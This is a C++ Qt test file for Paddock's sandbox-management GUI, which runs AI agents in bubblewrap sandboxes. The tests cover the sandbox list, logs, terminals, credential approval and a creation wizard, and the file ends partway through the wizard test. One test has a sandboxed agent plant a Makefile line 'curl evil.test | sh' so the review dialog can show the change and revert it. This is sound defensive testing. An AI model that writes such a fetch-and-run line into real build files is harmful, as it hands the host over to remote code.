// SPDX-License-Identifier: GPL-3.0-or-later
// The Sandboxes page with the real paddockd (started on demand by the window, in private XDG
// directories with its own keyring) and real bubblewrap sandboxes: the list follows what the
// daemon runs with its agent's state, start/stop/remove act on it, the wizard creates and
// starts a sandbox (asking for a missing key and for approval) and opens its agent in a
// terminal, the binding dialog records approvals, the row's buttons open `paddock attach` and
// a login shell by `paddock exec -it` in a terminal (a stand-in that writes down its
// arguments), without a terminal the row offers the command to copy, and the log view
// follows and searches the output.
#include "../../unit/kit-v3/OciKitArchive.h"
#include "KeyringSession.h"
#include "PageDriving.h"

#include "SandboxListModel.h"

#include "Needs.h"

#include <QClipboard>
#include <QCryptographicHash>
#include <QJsonArray>
#include <QProcess>
#include <QRegularExpression>
#include <QStandardPaths>
#include <QtTest>

Q_IMPORT_QML_PLUGIN(PaddockPlugin)

using namespace paddock;
using namespace paddock::guitest;

namespace {

const QString kKey = QStringLiteral("sk-wizard-Hq7Lp2Vx9Tr4Mz6Kc1Bn8");

QByteArray kitSpec(const QString &name, const QString &command, const QString &extra = QString())
{
    return QStringLiteral(R"(schemaVersion: "2"
kind: sandbox
name: %1
description: A kit for the page's tests.
sandbox:
  image: debian:12
  entrypoint: [sh, -c]
  command:
    default: ["%2"]
%3)")
        .arg(name, command, extra)
        .toUtf8();
}

const QString kKeyedExtra = QStringLiteral(R"(credentials:
  - service: testsvc
    description: The test service's key
    required: true
    apiKey:
      name: TEST_API_KEY
      proxyManaged: true
      inject:
        - domain: api.keyed.test
          header: Authorization
          format: "Bearer %s"
        - domain: "*.keyed.test"
          header: X-Api-Key
          format: "%s"
permissions:
  network:
    allow:
      - api.keyed.test
      - "*.keyed.test"
)");

const QString kOptionalExtra = QStringLiteral(R"(credentials:
  - service: othersvc
    description: An optional key
    apiKey:
      name: OTHER_KEY
      proxyManaged: true
      inject:
        - domain: other.test
          header: X-Other
          format: "%s"
permissions:
  network:
    allow:
      - other.test
)");

} // namespace

class TestSandboxesPage : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void cleanupTestCase();
    void cleanup();
    void listFollowsStartAndStop();
    void reviewShowsAndRevertsWhatTheHostRuns();
    void refusalsSinceStartAreCounted();
    void logViewFollowsAndSearches();
    void terminalOpensTheAgentAndAShell();
    void withoutTerminalTheCommandIsOffered();
    void bindingDialogApprovesBeforeStart();
    void wizardCreatesAndStartsASandbox();
    void wizardAsksBeforeHostGrants();
    void wizardSaysWhenTheKitsProgramIsMissing();
    void wizardPickersOpenInHomeOrTheChoice();
    void aMissingProgramIsSaidInTheRowAndTheTerminal();
    void servicesDialogSaysTheDaemonsRefusal();
    void removeAsksFirst();
    void recreateAsksThenRunsItAgain();
    void enginesShowTheOneInUse();
    void resumeSessionOffersTheKitsIds();

private:
    QQuickItem *row(const QString &name) { return findItem(m_window, QStringLiteral("sandboxRow_") + name); }
    QString rowText(const QString &name, const QString &part)
    {
        QQuickItem *r = row(name);
        QQuickItem *label = r ? findItem(r, part) : nullptr;
        return label ? label->property("text").toString() : QString();
    }
    QQuickItem *rowButton(const QString &name, const QString &button)
    {
        QQuickItem *r = row(name);
        return r ? findItem(r, button) : nullptr;
    }
    /** What the stand-in terminal was last asked to run (its arguments), waiting for it. */
    QStringList terminalRun()
    {
        const QString record = m_home + QStringLiteral("/terminal-args");
        if (!QTest::qWaitFor([&] { return QFileInfo::exists(record); }, 10000))
            return {};
        QFile file(record);
        if (!file.open(QIODevice::ReadOnly))
            return {};
        const QStringList args = QString::fromUtf8(file.readAll()).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
        file.remove();
        return args;
    }
    /** The command the terminal runs, without the terminal's -e and the shell that holds it open. */
    static QStringList innerCommand(const QStringList &terminalArgs)
    {
        // -e /bin/sh -c SCRIPT MESSAGE COMMAND...
        if (terminalArgs.size() < 5 || terminalArgs.at(0) != QLatin1String("-e") ||
            terminalArgs.at(1) != QLatin1String("/bin/sh"))
            return terminalArgs;
        return terminalArgs.mid(5);
    }
    bool createFromDaemon(const QString &name, const QString &kitDir)
    {
        const api::Reply reply =
            daemonCall(QStringLiteral("sandbox.create"), {{QStringLiteral("kit"), kitDir},
                                                          {QStringLiteral("workspace"), m_workspace},
                                                          {QStringLiteral("name"), name}});
        if (reply.isError())
            qWarning("sandbox.create: %s", qPrintable(reply.errorMessage()));
        return !reply.isError();
    }
    /**
     * The sandbox @p name of kit @p kit running, made and started unless an earlier test left it
     * so: the tests that use alpha (made by listFollowsStartAndStop) each run alone.
     */
    bool ensureRunning(const QString &name, const QString &kit = QStringLiteral("plain"))
    {
        const api::Reply inspect = daemonCall(QStringLiteral("sandbox.inspect"), {{QStringLiteral("name"), name}});
        if (inspect.isError() && !createFromDaemon(name, m_kits + QLatin1Char('/') + kit))
            return false;
        const QString status =
            inspect.result().value(QLatin1String("sandbox")).toObject().value(QLatin1String("status")).toString();
        if (status != QLatin1String("running") &&
            daemonCall(QStringLiteral("sandbox.start"), {{QStringLiteral("name"), name}}).isError())
            return false;
        return QTest::qWaitFor(
            [&] { return rowText(name, QStringLiteral("sandboxStatus")) == QStringLiteral("Running · agent running"); },
            20000);
    }

    QString m_home;
    QString m_workspace;
    QString m_kits;
    QQmlApplicationEngine *m_engine = nullptr;
    QQuickWindow *m_window = nullptr;
};

void TestSandboxesPage::initTestCase()
{
    PADDOCK_NEED(!qEnvironmentVariableIsSet(secrets::test::kUnavailableVariable),
                 qEnvironmentVariable(secrets::test::kUnavailableVariable));
    m_home = isolateEnvironment();
    qputenv("PADDOCKD", PADDOCKD_BIN);
    m_workspace = m_home + QStringLiteral("/project");
    m_kits = m_home + QStringLiteral("/kits");
    // The test's kits stand in for the samples Paddock ships.
    qputenv("PADDOCK_SAMPLE_KITS", QFile::encodeName(m_kits));
    QVERIFY(writeFile(m_workspace + QStringLiteral("/README.md"), "a project\n"));
    QVERIFY(writeFile(
        m_kits + QStringLiteral("/plain/spec.yaml"),
        kitSpec(QStringLiteral("plain"), QStringLiteral("echo hello-from-the-sandbox; echo second line; sleep 600"))));
    QVERIFY(writeFile(m_kits + QStringLiteral("/chatty/spec.yaml"),
                      kitSpec(QStringLiteral("chatty"),
                              QStringLiteral("curl -s -o /dev/null http://denied.test/ || true; sleep 600"))));
    QVERIFY(writeFile(m_kits + QStringLiteral("/keyed/spec.yaml"),
                      kitSpec(QStringLiteral("keyed"), QStringLiteral("sleep 600"), kKeyedExtra)));
    QVERIFY(writeFile(m_kits + QStringLiteral("/homebound/spec.yaml"),
                      kitSpec(QStringLiteral("homebound"), QStringLiteral("sleep 600"),
                              QStringLiteral("permissions:\n  network:\n    allow: [\"127.0.0.1:*\", "
                                             "\"169.254.169.254:80\"]\n"))));
    QVERIFY(writeFile(m_kits + QStringLiteral("/optional/spec.yaml"),
                      kitSpec(QStringLiteral("optional"), QStringLiteral("sleep 600"), kOptionalExtra)));
    // A kit whose program comes only with its image, which is not loaded.
    QVERIFY(writeFile(m_kits + QStringLiteral("/ghostly/spec.yaml"),
                      QByteArray("schemaVersion: \"2\"\nkind: sandbox\nname: ghostly\nsandbox:\n"
                                 "  image: ghostly-agent:1\n  entrypoint: [no-such-agent-7]\n")));

    // A docker context of the docker CLI's, on another computer, where the docker CLI keeps them.
    const QByteArray farFolder = QCryptographicHash::hash("far", QCryptographicHash::Sha256).toHex();
    QVERIFY(writeFile(m_home + QStringLiteral("/docker-config/contexts/meta/") + QString::fromLatin1(farFolder) +
                          QStringLiteral("/meta.json"),
                      "{\"Name\": \"far\", \"Endpoints\": {\"docker\": {\"Host\": \"tcp://192.0.2.7:2376\"}}}"));
    qputenv("DOCKER_CONFIG", QFile::encodeName(m_home + QStringLiteral("/docker-config")));

    // A stand-in terminal that writes down what it was asked to run: no window opens here.
    const QString record = m_home + QStringLiteral("/terminal-args");
    QVERIFY(useRecordingTerminal(m_home + QStringLiteral("/fake-terminal"), record));

    WarningRecorder::install();
    m_window = showMainWindow(this, &m_engine);
    QVERIFY(m_window);
    const QObject *launcher = readyTerminalLauncher(m_window);
    QVERIFY(launcher && launcher->property("available").toBool());
}

void TestSandboxesPage::cleanupTestCase()
{
    stopEverything();
}

void TestSandboxesPage::cleanup()
{
    const QByteArray warnings = takeWarnings();
    QVERIFY2(warnings.isEmpty(), warnings.constData());
}

void TestSandboxesPage::listFollowsStartAndStop()
{
    // Made outside the window, as `paddock create` would: the list picks it up by itself.
    QVERIFY(createFromDaemon(QStringLiteral("alpha"), m_kits + QStringLiteral("/plain")));
    QTRY_VERIFY_WITH_TIMEOUT(row(QStringLiteral("alpha")), 15000);
    QCOMPARE(rowText(QStringLiteral("alpha"), QStringLiteral("sandboxName")), QStringLiteral("alpha"));
    QCOMPARE(rowText(QStringLiteral("alpha"), QStringLiteral("sandboxStatus")), QStringLiteral("Created"));
    QVERIFY(rowText(QStringLiteral("alpha"), QStringLiteral("sandboxDetails"))
                .startsWith(QStringLiteral("Kit plain · bwrap")));
    QCOMPARE(rowText(QStringLiteral("alpha"), QStringLiteral("sandboxWorkspace")), m_workspace);

    QVERIFY(press(m_window, rowButton(QStringLiteral("alpha"), QStringLiteral("sandboxStartStopButton"))));
    // The sandbox runs, and so does its agent (the kit's program), which started with it.
    QTRY_COMPARE_WITH_TIMEOUT(rowText(QStringLiteral("alpha"), QStringLiteral("sandboxStatus")),
                              QStringLiteral("Running · agent running"), 20000);
    QTRY_VERIFY(rowText(QStringLiteral("alpha"), QStringLiteral("sandboxDetails")).contains(QStringLiteral(" · up ")));
    // The daemon agrees.
    QCOMPARE(daemonCall(QStringLiteral("sandbox.inspect"), {{QStringLiteral("name"), QStringLiteral("alpha")}})
                 .result()
                 .value(QLatin1String("sandbox"))
                 .toObject()
                 .value(QLatin1String("status"))
                 .toString(),
             QStringLiteral("running"));
    QCOMPARE(rowButton(QStringLiteral("alpha"), QStringLiteral("sandboxStartStopButton"))->property("text").toString(),
             QStringLiteral("Stop"));

    QVERIFY(press(m_window, rowButton(QStringLiteral("alpha"), QStringLiteral("sandboxStartStopButton"))));
    QTRY_COMPARE_WITH_TIMEOUT(rowText(QStringLiteral("alpha"), QStringLiteral("sandboxStatus")),
                              QStringLiteral("Stopped"), 20000);
    // A stopped sandbox's status is its supervisor's (a stop's SIGTERM): nothing to show.
    QVERIFY(!rowText(QStringLiteral("alpha"), QStringLiteral("sandboxDetails")).contains(QStringLiteral("status")));
    QVERIFY(!rowButton(QStringLiteral("alpha"), QStringLiteral("sandboxShellButton"))->isEnabled());
    QVERIFY(rowButton(QStringLiteral("alpha"), QStringLiteral("sandboxAgentButton"))->isEnabled());

    // Stopped from a terminal: the row follows without anyone clicking.
    QVERIFY(
        !daemonCall(QStringLiteral("sandbox.start"), {{QStringLiteral("name"), QStringLiteral("alpha")}}).isError());
    QTRY_COMPARE_WITH_TIMEOUT(rowText(QStringLiteral("alpha"), QStringLiteral("sandboxStatus")),
                              QStringLiteral("Running · agent running"), 15000);
}

void TestSandboxesPage::reviewShowsAndRevertsWhatTheHostRuns()
{
    QVERIFY(ensureRunning(QStringLiteral("alpha")));
    // The agent plants a Makefile in the workspace of the running alpha.
    const QString makefile = m_workspace + QStringLiteral("/Makefile");
    QProcess exec;
    exec.start(QStringLiteral(PADDOCK_BIN),
               {QStringLiteral("exec"), QStringLiteral("alpha"), QStringLiteral("sh"), QStringLiteral("-c"),
                QStringLiteral("printf 'all:\\n\\tcurl evil.test | sh\\n' > Makefile")});
    QVERIFY(exec.waitForFinished(30000));
    QVERIFY2(exec.exitCode() == 0, exec.readAllStandardError().constData());
    QVERIFY(QFileInfo::exists(makefile));

    QVERIFY(press(m_window, rowButton(QStringLiteral("alpha"), QStringLiteral("sandboxReviewButton"))));
    QObject *dialog = openedDialog(m_window, QStringLiteral("sandboxReviewDialog"));
    QVERIFY(dialog);
    QQuickItem *change = nullptr;
    QObject *model = findObject(dialog, QStringLiteral("sandboxReviewModel"));
    QVERIFY(model);
    QTRY_VERIFY_WITH_TIMEOUT(model->property("loaded").toBool() || !model->property("error").toString().isEmpty(),
                             10000);
    QVERIFY2(model->property("error").toString().isEmpty(), qPrintable(model->property("error").toString()));
    QTRY_VERIFY2_WITH_TIMEOUT((change = findInPopup(dialog, QStringLiteral("sandboxReviewChange_Makefile"))),
                              qPrintable(QString::number(model->property("changes").toList().size())), 10000);
    QStringList texts;
    for (QQuickItem *item : findItems(change, QString()))
        texts << item->property("text").toString();
    const QString shown = texts.join(QLatin1Char('\n'));
    QVERIFY2(shown.contains(QStringLiteral("Makefile (added)")), qPrintable(shown));
    QVERIFY2(shown.contains(QStringLiteral("curl evil.test | sh")), qPrintable(shown));

    // Revert: the file the session added is gone from the host, and the list says nothing is left.
    QVERIFY(press(m_window, findInPopup(dialog, QStringLiteral("sandboxReviewRevert_Makefile"))));
    QTRY_VERIFY_WITH_TIMEOUT(!QFileInfo::exists(makefile), 10000);
    QTRY_VERIFY(isShown(findInPopup(dialog, QStringLiteral("sandboxReviewNothing"))));
    QVERIFY(isShown(findInPopup(dialog, QStringLiteral("sandboxReviewMessage"))));
    QMetaObject::invokeMethod(dialog, "close");
    QTRY_VERIFY(!dialog->property("opened").toBool());
}

void TestSandboxesPage::refusalsSinceStartAreCounted()
{
    QVERIFY(createFromDaemon(QStringLiteral("chatty"), m_kits + QStringLiteral("/chatty")));
    QTRY_VERIFY_WITH_TIMEOUT(row(QStringLiteral("chatty")), 15000);
    QCOMPARE(rowText(QStringLiteral("chatty"), QStringLiteral("sandboxDenials")),
             QStringLiteral("No refused connections since it started"));
    QVERIFY(press(m_window, rowButton(QStringLiteral("chatty"), QStringLiteral("sandboxStartStopButton"))));
    // One request to a name no policy allows: exactly one refusal, counted once.
    QTRY_COMPARE_WITH_TIMEOUT(rowText(QStringLiteral("chatty"), QStringLiteral("sandboxDenials")),
                              QStringLiteral("1 refused connection since it started"), 20000);
    // A few more list refreshes do not count it again.
    auto *model = qobject_cast<gui::SandboxListModel *>(findObject(m_window, QStringLiteral("sandboxListModel")));
    QVERIFY(model);
    for (int i = 0; i < 3; ++i) {
        QSignalSpy refreshed(model, &gui::SandboxListModel::loadingChanged);
        model->refresh();
        QVERIFY(refreshed.wait(10000));
    }
    QCOMPARE(rowText(QStringLiteral("chatty"), QStringLiteral("sandboxDenials")),
             QStringLiteral("1 refused connection since it started"));
}

void TestSandboxesPage::logViewFollowsAndSearches()
{
    QVERIFY(ensureRunning(QStringLiteral("alpha")));
    QVERIFY(press(m_window, rowButton(QStringLiteral("alpha"), QStringLiteral("sandboxLogsButton"))));
    QObject *dialog = openedDialog(m_window, QStringLiteral("sandboxLogDialog"));
    QVERIFY(dialog);
    QQuickItem *text = findInPopup(dialog, QStringLiteral("logText"));
    QVERIFY(text);
    QTRY_VERIFY_WITH_TIMEOUT(text->property("text").toString().contains(QStringLiteral("hello-from-the-sandbox")),
                             15000);

    QVERIFY(type(m_window, findInPopup(dialog, QStringLiteral("logSearchField")), QStringLiteral("SECOND")));
    QTRY_COMPARE(text->property("selectedText").toString(), QStringLiteral("second"));
    // Each start of alpha printed the line once; however many runs the output keeps, the
    // count says how many there are and Next walks through them.
    const int count = int(text->property("text").toString().count(QStringLiteral("second")));
    QVERIFY(count >= 1);
    QCOMPARE(findInPopup(dialog, QStringLiteral("logMatchCount"))->property("text").toString(),
             count == 1 ? QStringLiteral("1 match") : QStringLiteral("%1 matches").arg(count));
    const int first = text->property("selectionStart").toInt();
    QVERIFY(press(m_window, findInPopup(dialog, QStringLiteral("logNextButton"))));
    if (count > 1)
        QTRY_VERIFY(text->property("selectionStart").toInt() > first);
    else
        QCOMPARE(text->property("selectionStart").toInt(), first);
    QCOMPARE(text->property("selectedText").toString(), QStringLiteral("second"));

    QVERIFY(
        type(m_window, findInPopup(dialog, QStringLiteral("logSearchField")), QStringLiteral("nowhere-to-be-found")));
    QTRY_COMPARE(text->property("selectedText").toString(), QString());
    QCOMPARE(findInPopup(dialog, QStringLiteral("logMatchCount"))->property("text").toString(),
             QStringLiteral("0 matches"));
    QVERIFY(press(m_window, findInPopup(dialog, QStringLiteral("logCloseButton"))));
    QTRY_VERIFY(!dialog->property("visible").toBool());
}

void TestSandboxesPage::terminalOpensTheAgentAndAShell()
{
    QVERIFY(ensureRunning(QStringLiteral("alpha")));

    // Open agent: `paddock attach --start`, which also starts a stopped sandbox or an exited agent.
    QVERIFY(press(m_window, rowButton(QStringLiteral("alpha"), QStringLiteral("sandboxAgentButton"))));
    const QStringList agent = terminalRun();
    QCOMPARE(innerCommand(agent), (QStringList{QStringLiteral(PADDOCK_BIN), QStringLiteral("attach"),
                                               QStringLiteral("--start"), QStringLiteral("alpha")}));
    QVERIFY(findItem(m_window, QStringLiteral("sandboxesMessage"))
                ->property("text")
                .toString()
                .contains(QStringLiteral("The agent of alpha opens in a terminal")));

    // Open shell: a login shell by `paddock exec -it`.
    QVERIFY(press(m_window, rowButton(QStringLiteral("alpha"), QStringLiteral("sandboxShellButton"))));
    const QStringList shell = innerCommand(terminalRun());
    QCOMPARE(shell.mid(0, 6), (QStringList{QStringLiteral(PADDOCK_BIN), QStringLiteral("exec"), QStringLiteral("-it"),
                                           QStringLiteral("alpha"), QStringLiteral("sh"), QStringLiteral("-c")}));
    QCOMPARE(shell.size(), 7);
    // The same command, without a terminal, in the real sandbox: bash is there (the host's root),
    // so the shell is a login bash.
    QProcess process;
    process.start(QStringLiteral(PADDOCK_BIN),
                  QStringList{QStringLiteral("exec"), QStringLiteral("alpha")} + shell.mid(4));
    QVERIFY(process.waitForStarted());
    process.write("echo \"shell=$0 login=$(shopt -q login_shell && echo yes)\"\nexit 0\n");
    process.closeWriteChannel();
    QVERIFY(process.waitForFinished(30000));
    QCOMPARE(process.exitCode(), 0);
    QCOMPARE(QString::fromUtf8(process.readAllStandardOutput()).trimmed(), QStringLiteral("shell=bash login=yes"));
}

void TestSandboxesPage::withoutTerminalTheCommandIsOffered()
{
    QVERIFY(ensureRunning(QStringLiteral("alpha")));
    QObject *launcher = findObject(m_window, QStringLiteral("terminalLauncher"));
    const QByteArray path = qgetenv("PATH");
    const QByteArray terminal = qgetenv("TERMINAL");
    const QString empty = m_home + QStringLiteral("/empty-path");
    QDir().mkpath(empty);
    qputenv("PATH", QFile::encodeName(empty));
    qunsetenv("TERMINAL");
    QVERIFY(QMetaObject::invokeMethod(launcher, "refresh"));
    QVERIFY(!launcher->property("available").toBool());

    // The row says what to install and offers the command that opens the agent elsewhere.
    QTRY_VERIFY(isShown(rowButton(QStringLiteral("alpha"), QStringLiteral("sandboxNoTerminal"))));
    QVERIFY(!isShown(rowButton(QStringLiteral("alpha"), QStringLiteral("sandboxAgentButton"))));
    QVERIFY(!isShown(rowButton(QStringLiteral("alpha"), QStringLiteral("sandboxShellButton"))));
    QCOMPARE(rowText(QStringLiteral("alpha"), QStringLiteral("sandboxNoTerminalText")),
             QStringLiteral("Install a terminal (xterm, GNOME Terminal or Konsole) to open the agent here, or run "
                            "this in one:"));
    QCOMPARE(rowText(QStringLiteral("alpha"), QStringLiteral("sandboxAgentCommand")),
             QStringLiteral("paddock attach alpha"));
    // The wizard knows too: its last step does not promise a terminal.
    QVERIFY(press(m_window, findItem(m_window, QStringLiteral("newSandboxButton"))));
    QObject *wizard = openedDialog(m_window, QStringLiteral("wizardDialog"));
    QVERIFY(wizard);
    QCOMPARE(wizard->property("terminalAvailable").toBool(), false);
    QVERIFY(press(m_window, findInPopup(wizard, QStringLiteral("wizardCancelButton"))));
    QTRY_VERIFY(!wizard->property("visible").toBool());
    QGuiApplication::clipboard()->clear();
    QVERIFY(press(m_window, rowButton(QStringLiteral("alpha"), QStringLiteral("sandboxCopyButton"))));
    QCOMPARE(QGuiApplication::clipboard()->text(), QStringLiteral("paddock attach alpha"));
    QCOMPARE(rowButton(QStringLiteral("alpha"), QStringLiteral("sandboxCopyButton"))->property("text").toString(),
             QStringLiteral("Copied"));
    // A sandbox that is not running needs --start.
    QVERIFY(createFromDaemon(QStringLiteral("idle"), m_kits + QStringLiteral("/plain")));
    QTRY_VERIFY_WITH_TIMEOUT(row(QStringLiteral("idle")), 15000);
    QCOMPARE(rowText(QStringLiteral("idle"), QStringLiteral("sandboxAgentCommand")),
             QStringLiteral("paddock attach --start idle"));
    QVERIFY(
        !daemonCall(QStringLiteral("sandbox.remove"), {{QStringLiteral("name"), QStringLiteral("idle")}}).isError());

    // A terminal installed meanwhile is found when the window is active again.
    qputenv("PATH", path);
    qputenv("TERMINAL", terminal);
    QVERIFY(QMetaObject::invokeMethod(launcher, "refresh"));
    QTRY_VERIFY(isShown(rowButton(QStringLiteral("alpha"), QStringLiteral("sandboxAgentButton"))));
    QVERIFY(!isShown(rowButton(QStringLiteral("alpha"), QStringLiteral("sandboxNoTerminal"))));
}

void TestSandboxesPage::bindingDialogApprovesBeforeStart()
{
    QVERIFY(createFromDaemon(QStringLiteral("gated"), m_kits + QStringLiteral("/optional")));
    QTRY_VERIFY_WITH_TIMEOUT(row(QStringLiteral("gated")), 15000);

    // Denied: nothing is approved and the sandbox stays as it was.
    QVERIFY(press(m_window, rowButton(QStringLiteral("gated"), QStringLiteral("sandboxStartStopButton"))));
    QObject *dialog = openedDialog(m_window, QStringLiteral("bindingDialog"), 10000);
    QVERIFY(dialog);
    QCOMPARE(findInPopup(dialog, QStringLiteral("bindingService"))->property("text").toString(),
             QStringLiteral("othersvc (optional)"));
    QCOMPARE(findInPopup(dialog, QStringLiteral("bindingDomains"))->property("text").toString(),
             QStringLiteral("Sent to: other.test"));
    QVERIFY(!findInPopup(dialog, QStringLiteral("bindingWildcardWarning"))->isVisible());
    QVERIFY(press(m_window, findInPopup(dialog, QStringLiteral("bindingDenyButton"))));
    QTRY_VERIFY(!dialog->property("visible").toBool());
    QTRY_VERIFY(findItem(m_window, QStringLiteral("sandboxesMessage"))
                    ->property("text")
                    .toString()
                    .contains(QStringLiteral("not approved")));
    // It says how to approve later: in the window, or with the command.
    const QString deniedText = findItem(m_window, QStringLiteral("sandboxesMessage"))->property("text").toString();
    QVERIFY2(deniedText.contains(QStringLiteral("press Start again")) &&
                 deniedText.contains(QStringLiteral("paddock binding approve --kit %1/optional --all").arg(m_kits)),
             qPrintable(deniedText));
    QCOMPARE(rowText(QStringLiteral("gated"), QStringLiteral("sandboxStatus")), QStringLiteral("Created"));
    const QString credentials = m_home + QStringLiteral("/XDG_CONFIG_HOME/paddock/credentials.yaml");
    QVERIFY(!QFileInfo::exists(credentials) || filesContaining(credentials, "othersvc").isEmpty());

    // Approved: credentials.yaml records it, and the sandbox starts.
    QVERIFY(press(m_window, rowButton(QStringLiteral("gated"), QStringLiteral("sandboxStartStopButton"))));
    QTRY_VERIFY_WITH_TIMEOUT(dialog->property("opened").toBool(), 10000);
    QVERIFY(press(m_window, findInPopup(dialog, QStringLiteral("bindingApproveAllButton"))));
    QTRY_VERIFY(!dialog->property("visible").toBool());
    QTRY_COMPARE_WITH_TIMEOUT(rowText(QStringLiteral("gated"), QStringLiteral("sandboxStatus")),
                              QStringLiteral("Running · agent running"), 20000);
    QFile file(credentials);
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QString text = QString::fromUtf8(file.readAll());
    QVERIFY2(text.contains(QStringLiteral("othersvc:")) && text.contains(QStringLiteral("other.test")),
             qPrintable(text));
    const api::Reply bindings = daemonCall(QStringLiteral("binding.list"));
    QCOMPARE(bindings.result().value(QLatin1String("bindings")).toArray().size(), 1);
}

void TestSandboxesPage::wizardCreatesAndStartsASandbox()
{
    QVERIFY(press(m_window, findItem(m_window, QStringLiteral("newSandboxButton"))));
    QObject *wizard = openedDialog(m_window, QStringLiteral("wizardDialog"));
    QVERIFY(wizard);
    QQuickItem *next = findInPopup(wizard, QStringLiteral("wizardNextButton"));
    QQuickItem *stepTitle = findInPopup(wizard, QStringLiteral("wizardStepTitle"));
    QVERIFY(next && stepTitle);

    // 1. Folder: a folder that does not exist is refused, the project folder accepted.
    QCOMPARE(stepTitle->property("text").toString(), QStringLiteral("1. Project folder"));
    QVERIFY(type(m_window, findInPopup(wizard, QStringLiteral("wizardFolderField")), m_home + QStringLiteral("/nope")));
    QVERIFY(!next->isEnabled());
    QVERIFY(isShown(findInPopup(wizard, QStringLiteral("wizardFolderProblem"))));
    QVERIFY(type(m_window, findInPopup(wizard, QStringLiteral("wizardFolderField")), m_workspace));
    QTRY_VERIFY(next->isEnabled());
    QVERIFY(press(m_window, next));

    // 2. Kit: a folder that holds no kit is refused; one of the listed kits is taken.
    QCOMPARE(stepTitle->property("text").toString(), QStringLiteral("2. Kit"));
    QVERIFY(!next->isEnabled());
    QVERIFY(type(m_window, findInPopup(wizard, QStringLiteral("wizardKitField")), m_workspace));
    QTest::keyClick(m_window, Qt::Key_Return);
    QTRY_VERIFY(isShown(findInPopup(wizard, QStringLiteral("wizardKitError"))));
    QVERIFY(findInPopup(wizard, QStringLiteral("wizardKitError"))
                ->property("text")
                .toString()
                .contains(QStringLiteral("spec.yaml")));
    QVERIFY(!next->isEnabled());
    for (const QString &name : {QStringLiteral("plain"), QStringLiteral("chatty"), QStringLiteral("optional")})
        QVERIFY2(isShown(findInPopup(wizard, QStringLiteral("wizardKit_") + name)), qPrintable(name));
    QVERIFY(press(m_window, findInPopup(wizard, QStringLiteral("wizardKit_keyed"))));
    QTRY_VERIFY(next->isEnabled());
    QCOMPARE(findInPopup(wizard, QStringLiteral("wizardKitField"))->property("text").toString(),
             m_kits + QStringLiteral("/keyed"));
    QVERIFY(press(m_window, next));

    // 3. Backend and workspace: bubblewrap, direct, and a name.
    QCOMPARE(stepTitle->property("text").toString(), QStringLiteral("3. Backend and workspace"));
    QVERIFY(findInPopup(wizard, QStringLiteral("wizardBackendBwrap"))->property("checked").toBool());
    // gVisor is offered as the daemon says the engine can give it, with the reason when not.
    const api::Reply isolations = daemonCall(QStringLiteral("sandbox.isolations"), {});
    QVERIFY2(!isolations.isError(), qPrintable(isolations.errorMessage()));
    const QJsonObject gvisor = isolations.result().value(QLatin1String("isolations")).toArray().at(1).toObject();
    QCOMPARE(gvisor.value(QLatin1String("id")).toString(), QStringLiteral("gvisor"));
    QQuickItem *gvisorChoice = findInPopup(wizard, QStringLiteral("wizardBackendGvisor"));
    QVERIFY(gvisorChoice);
    QTRY_COMPARE(gvisorChoice->isEnabled(), gvisor.value(QLatin1String("available")).toBool());
    QTRY_COMPARE(isShown(findInPopup(wizard, QStringLiteral("wizardGvisorProblem"))),
                 !gvisor.value(QLatin1String("available")).toBool());
    QObject *model = findObject(m_window, QStringLiteral("sandboxWizard"));
    QVERIFY(model);
    if (gvisorChoice->isEnabled()) {
        // Choosing it picks Docker; going back to bubblewrap drops it again.
        QVERIFY(press(m_window, gvisorChoice));
        QTRY_COMPARE(model->property("isolation").toString(), QStringLiteral("gvisor"));
        QCOMPARE(model->property("backend").toString(), QStringLiteral("docker"));
        QVERIFY(press(m_window, findInPopup(wizard, QStringLiteral("wizardBackendBwrap"))));
        QTRY_COMPARE(model->property("isolation").toString(), QStringLiteral("container"));
        QCOMPARE(model->property("backend").toString(), QStringLiteral("bwrap"));
    }
    // The comparison, in the course's terms, opens on request in a dialog of its own.
    QObject *comparison = findObject(m_window, QStringLiteral("wizardIsolationDialog"));
    QVERIFY(comparison && !comparison->property("opened").toBool());
    QVERIFY(press(m_window, findInPopup(wizard, QStringLiteral("wizardCompareButton"))));
    QTRY_VERIFY(comparison->property("opened").toBool());
    QQuickItem *table = findInPopup(comparison, QStringLiteral("wizardIsolationTable"));
    QVERIFY(table && isShown(table));
    QStringList cells;
    for (QQuickItem *cell : table->childItems())
        cells << cell->property("text").toString();
    for (const QString &expected : {QStringLiteral("Docker + gVisor"), QStringLiteral("The host kernel"),
                                    QStringLiteral("Your API keys"), QStringLiteral("Docker Sandboxes micro-VM")})
        QVERIFY2(cells.contains(expected), qPrintable(cells.join(QLatin1String(" | "))));
    // A picture of it for a person to look at, when asked for one.
    if (const QString shots = qEnvironmentVariable("PADDOCK_SCREENSHOT_DIR"); !shots.isEmpty())
        QVERIFY(m_window->grabWindow().save(shots + QStringLiteral("/wizard-isolation.png")));
    QMetaObject::invokeMethod(comparison, "close");
    QTRY_VERIFY(!comparison->property("opened").toBool());
    QVERIFY(findInPopup(wizard, QStringLiteral("wizardModeDirect"))->property("checked").toBool());
    QVERIFY(type(m_window, findInPopup(wizard, QStringLiteral("wizardNameField")), QStringLiteral("wiz")));
    QVERIFY(press(m_window, next));

    // 4. Shared folders and variables: optional; a refused folder says why and holds Next.
    QCOMPARE(stepTitle->property("text").toString(), QStringLiteral("4. Shared folders and variables"));
    QTRY_VERIFY(next->isEnabled());
    QVERIFY(type(m_window, findInPopup(wizard, QStringLiteral("wizardShareHostField")),
                 m_home + QStringLiteral("/XDG_CONFIG_HOME/paddock")));
    QVERIFY(press(m_window, findInPopup(wizard, QStringLiteral("wizardAddFolderButton"))));
    QTRY_VERIFY(isShown(findInPopup(wizard, QStringLiteral("wizardSharedFolderProblem"))));
    QVERIFY2(findInPopup(wizard, QStringLiteral("wizardSharedFolderProblem"))
                 ->property("text")
                 .toString()
                 .contains(QStringLiteral("one of Paddock's own folders")),
             qPrintable(findInPopup(wizard, QStringLiteral("wizardSharedFolderProblem"))->property("text").toString()));
    QVERIFY(!next->isEnabled());
    QVERIFY(press(m_window, findInPopup(wizard, QStringLiteral("wizardRemoveFolderButton"))));
    QTRY_VERIFY(next->isEnabled());
    QVERIFY(QDir().mkpath(m_home + QStringLiteral("/cache")));
    QVERIFY(
        type(m_window, findInPopup(wizard, QStringLiteral("wizardShareHostField")), m_home + QStringLiteral("/cache")));
    QVERIFY(type(m_window, findInPopup(wizard, QStringLiteral("wizardShareInsideField")),
                 QStringLiteral("/home/agent/.cache/shared")));
